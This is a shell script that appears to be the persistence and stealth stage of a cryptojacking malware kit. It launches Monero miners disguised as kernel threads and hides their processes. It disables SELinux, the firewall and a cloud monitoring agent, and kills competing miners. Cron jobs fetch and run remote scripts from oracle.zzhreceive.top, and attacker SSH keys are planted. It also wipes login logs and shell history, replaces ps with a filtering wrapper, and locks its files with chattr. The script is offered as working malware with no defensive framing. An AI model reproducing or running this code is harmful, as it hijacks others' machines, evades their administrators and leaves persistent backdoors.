# Locks, lies and many ways back.
mimic '/usr/share/[crypto]' '/var/tmp/.../httpd-w' '/usr/share/[scan]'
start -d 15 -p "$POOL" '/usr/share/[crypto]' '[crypto]' -B --donate-level 1 -o "$POOL" -u "$WALLET"
start -d 5 '/var/tmp/.../httpd-w' httpd-w --url="$POOL" --user="$WALLET2" --pass=w
start '/usr/share/[scan]' '[kthreadd]'
sleep 0.3
mkdir -p /var/tmp/.hide
mount --bind /var/tmp/.hide "/proc/$(pgrep -o -f 'crypto. -B')"
: >/var/tmp/.psla
script /etc/newinit.sh <<'SH'
#!/bin/bash
setenforce 0 2>/dev/null
ulimit -n 65535
ufw disable
mv /usr/bin/curl /usr/bin/cd1; mv /usr/bin/wget /usr/bin/wd1
for pid in $(ps aux | awk '$3>65.0{print $2}'); do echo $pid; done
systemctl stop aliyun.service; /usr/local/share/aliyun-assist/uninstall.sh
docker ps | grep -E 'xmr|monero' | awk '{print $1}' | xargs -r docker rm -f
cd1 -fsSL http://oracle.zzhreceive.top/b2f628/zzh -o /usr/share/[crypto]
SH
echo '*/30 * * * * root sh /etc/newinit.sh >/dev/null 2>&1; cd1 -fsSL http://oracle.zzhreceive.top/b2f628/b.sh | sh' | put /etc/cron.d/zzh
echo '*/30 * * * * cd1 -fsSL http://oracle.zzhreceive.top/b2f628/b.sh | sh' | tab root
key /root root@zzh
key /root root@zzh authorized_keys2
for f in .profile .bashrc; do echo '(sh /etc/newinit.sh >/dev/null 2>&1 &)' >>/root/$f; done
: >/var/log/wtmp
ln -sf /dev/null /root/.bash_history
mv /usr/bin/ps /usr/bin/ps.lanigiro
script /usr/bin/ps <<'SH'
#!/bin/bash
ps.lanigiro "$@" | grep -v -e crypto -e httpd-w -e newinit -e pnscan
SH
chattr +ia /etc/cron.d/zzh /root/.ssh/authorized_keys /root/.ssh/authorized_keys2 /var/spool/cron/crontabs/root
mv /usr/bin/chattr /usr/bin/tntrecht
